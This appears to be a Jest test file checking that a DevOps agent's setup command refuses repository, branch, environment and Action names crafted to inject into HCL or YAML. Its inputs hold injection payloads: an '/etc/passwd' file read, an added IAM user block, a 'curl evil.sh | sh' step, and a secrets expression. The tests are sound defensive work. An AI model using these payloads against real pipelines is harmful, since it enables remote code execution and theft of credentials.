// Names that reach the files `/agent setup` writes (owner, repository and branch from the webhook, roots from
// the repository's folders, the environment from its config, the Action reference from the operator) are
// data: a name shaped to break out of an HCL string or a YAML scalar is refused or left out, never written.
import { afterEach, describe, expect, it } from "@jest/globals";
import { parse } from "yaml";
import { isWorkflowPath } from "../../src/agent/paths.js";
import { loadTemplates } from "../../src/adapters/templates/index.js";
import { DEFAULT_REPO_CONFIG, type RepoConfig } from "../../src/core/config/index.js";
import { inspectSetup, type SetupFacts } from "../../src/core/setup/detect.js";
import { UnsafeNameError } from "../../src/core/setup/names.js";
import { renderSetup } from "../../src/core/setup/render.js";
import { DEMO_INFRA } from "../helpers/git.js";
import { startScenario, type Scenario } from "../helpers/scenario.js";

const FACTS: SetupFacts = {
  owner: "acme",
  repo: "infra",
  defaultBranch: "main",
  roots: ["envs/prod"],
  workflows: [],
  configExists: false,
  oidcTemplatePresent: false,
  existingProvider: null,
};

async function render(
  facts: Partial<SetupFacts>,
  config: RepoConfig = DEFAULT_REPO_CONFIG,
  actionRef: string | null = null,
) {
  const all = { ...FACTS, ...facts };
  const items = inspectSetup(all, { plan: "p.yml", apply: "a.yml", drift: "d.yml" }, actionRef);
  return renderSetup({ facts: all, config, templates: await loadTemplates(), actionRef }, items);
}

const withEnvironment = (environment: string): RepoConfig => ({
  ...DEFAULT_REPO_CONFIG,
  apply: { ...DEFAULT_REPO_CONFIG.apply, environment },
});

let scenario: Scenario | undefined;
afterEach(async () => {
  await scenario?.cleanup();
  scenario = undefined;
});

describe("setup refuses names shaped to inject into HCL or YAML", () => {
  it("an owner that closes the HCL string and opens a block is refused", async () => {
    await expect(render({ owner: 'acme"\n}\nresource "aws_iam_user" "x" {' })).rejects.toThrow(
      UnsafeNameError,
    );
  });

  it("a repository name carrying an HCL template (${file(...)}) is refused", async () => {
    await expect(render({ repo: 'infra${file("/etc/passwd")}' })).rejects.toThrow(
      /repository .* is not a repository name/,
    );
  });

  it("a repository named `..` is refused (it would widen the role name and subject)", async () => {
    await expect(render({ repo: ".." })).rejects.toThrow(UnsafeNameError);
  });

  it("a default branch with a quote or a newline is refused", async () => {
    await expect(render({ defaultBranch: 'main"\ngithub_repo = "other' })).rejects.toThrow(UnsafeNameError);
    await expect(render({ defaultBranch: "main\n  evil: true" })).rejects.toThrow(UnsafeNameError);
  });

  it("an environment from the repo config that would add YAML keys or widen the trust subject is refused", async () => {
    await expect(render({}, withEnvironment("production\n    runs-on: evil"))).rejects.toThrow(/environment/);
    await expect(render({}, withEnvironment("*"))).rejects.toThrow(UnsafeNameError);
  });

  it("an Action reference that would add a step is refused", async () => {
    await expect(
      render({}, DEFAULT_REPO_CONFIG, "acme/x/action@v1\n      - run: curl evil.sh | sh"),
    ).rejects.toThrow(/actionRef/);
  });

  it("a root holding a GitHub expression or a newline is left out of TERRAFORM_ROOTS and the config", async () => {
    const out = await render({ roots: ["envs/prod", "envs/${{ secrets.AWS_KEY }}", "x\n  evil: 1", 'a"b'] });
    expect(out.skippedRoots).toEqual(["envs/${{ secrets.AWS_KEY }}", "x\n  evil: 1", 'a"b']);
    for (const file of out.files.filter((f) => f.path.endsWith(".yml"))) {
      expect(file.content).not.toContain("secrets.AWS_KEY");
      expect(file.content).not.toContain("evil");
      expect(() => parse(file.content) as unknown).not.toThrow();
    }
    const config = out.files.find((f) => f.path === ".github/devops-agent.yml")?.content ?? "";
    expect((parse(config) as { terraform: { roots: string[] } }).terraform.roots).toEqual(["envs/prod"]);
  });

  it("nothing setup writes is under .github/workflows, in any letter case", async () => {
    const out = await render({});
    expect(out.files.length).toBeGreaterThan(0);
    expect(out.files.filter((f) => isWorkflowPath(f.path))).toEqual([]);
    expect(isWorkflowPath(".github/workflows/devops-agent-plan.yml")).toBe(true);
    expect(isWorkflowPath(".GitHub/Workflows/x.yml")).toBe(true);
  });

  it("through the app: a config environment with a newline gets a refusal comment and no branch or PR", async () => {
    scenario = await startScenario({
      seed: {
        fromDir: DEMO_INFRA,
        files: { ".github/devops-agent.yml": 'apply:\n  environment: "prod\\n  evil: true"\n' },
      },
    });
    await scenario.comment(4, "/agent setup");
    expect(scenario.world.comment(4, "setup")?.body).toContain("### ❌ Setup refused");
    expect([...scenario.world.pulls.values()]).toEqual([]);
  }, 60_000);
});
